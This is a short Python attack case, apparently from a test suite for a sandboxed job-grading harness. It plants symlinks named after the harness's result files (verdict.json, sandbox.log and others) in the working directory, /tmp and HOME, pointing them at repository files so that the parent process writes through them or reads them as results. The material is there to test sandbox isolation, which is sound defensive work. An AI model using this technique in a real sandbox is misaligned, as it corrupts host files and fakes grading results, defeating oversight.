"""Attack: plant symlinks where an earlier parent read its job's files back (verdict.json, times.json, sandbox.log,
e2e_logits.pt, in/, out/, e2e/) pointing at repository files, hoping the parent writes through them, reads them as
results, or binds them into the next job."""
import os

NAMES = ("verdict.json", "times.json", "sandbox.log", "e2e_logits.pt", "in", "out", "e2e", "files")


def main(ctx):
    made = []
    for d in (os.getcwd(), "/tmp", os.environ.get("HOME", "/tmp")):
        for n, target in zip(NAMES, ctx["targets"] * len(NAMES)):
            p = os.path.join(d, n)
            try:
                os.symlink(target, p)
                made.append(p)
            except OSError:
                pass
    return {"made": made}
